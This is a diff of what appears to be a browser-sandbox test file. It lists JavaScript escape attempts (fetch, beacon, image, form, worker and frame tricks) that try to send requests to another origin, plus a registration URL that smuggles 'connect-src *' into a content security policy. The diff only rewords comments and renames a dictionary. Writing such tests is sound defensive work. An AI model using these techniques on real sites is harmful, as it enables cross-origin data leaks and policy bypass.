@@ -1,10 +1,10 @@
-"""Ways out of a page made of files, each the body of an async function of which `PRELUDE` is the beginning."""
+"""Attempts to escape from a page made of files. Each is the body of an async function that starts with `PRELUDE`."""
 
-# `out` is the other origin, `udp` a port there. `near()` gives the windows of the page's own origin that it can reach
-# by way of its parents, host.html's among them; `framed(…)` a frame in the page, loaded; `ask` has a window reach out.
+# `out` is the other origin, `udp` a port there. `near()` returns the reachable windows of the page's own origin, with
+# host.html's. `framed(…)` adds a frame and waits for its load. `ask` makes a window send a request.
 PRELUDE = """
 const [out, udp] = arguments;
-// A driver whose frame is gone in the middle of a script runs it again in the page around.
+// If its frame disappears during a script, the driver runs it again in the surrounding page.
 if (window === top) return;
 const near = () => {
   const found = [];
@@ -22,7 +22,7 @@ const near = () => {
 const add = (name, of, place = document.body) => place.appendChild(Object.assign(document.createElement(name), of));
 const framed = (of) => new Promise((done) => { const frame = add("iframe", of); frame.onload = () => done(frame); });
 const soon = (work) => Promise.race([work, ticks(30)]);
-// What was begun has as long as some requests of the page's own.
+// Waits as long as some requests of the page take.
 const ticks = async (count) => { for (let n = 0; n < count; n++) await fetch("index.html").catch(() => 0); };
 const worker = (source) => soon(new Promise((done) => { const one = new Worker(source); one.onmessage = one.onerror = done; }));
 const ask = (view) => view.fetch(`${out}/a`, { mode: "no-cors" });
@@ -32,7 +32,7 @@ const gone = (name) => `<script>location=${JSON.stringify(`${out}/${name}`)}</` 
 """
 FENCE = "; await ticks(20);"
 
-ROADS = {
+ESCAPES = {
     "fetch": "await fetch(`${out}/a`, { mode: 'no-cors' })",
     "beacon": "navigator.sendBeacon(`${out}/a`, 'x')",
     "image": "new Image().src = `${out}/a`",
@@ -100,7 +100,7 @@ ROADS = {
     "refused-post": "const f = await framed({ name: 'f' }); add('form', { action: 'index.html', method: 'post', target: 'f' }).submit(); "
     "await soon(new Promise((done) => { f.onload = done })); await ask(f.contentWindow)",
     "directory": "const f = await soon(framed({ src: 'sub' })); await ask(f.contentWindow)",
-    # The worker writes the surface's origin, which it is registered with, into the policy.
+    # The worker adds the surface's origin, from its registration, to the policy.
     "policy-by-the-worker's-address": "for (const view of near()) await view.navigator.serviceWorker.register("
     "'/worker.js?surface=' + encodeURIComponent('http://x;connect-src *')).catch(() => 0); await ticks(10); "
     "const f = await soon(framed({ src: 'sub/' })); await ask(f.contentWindow)",
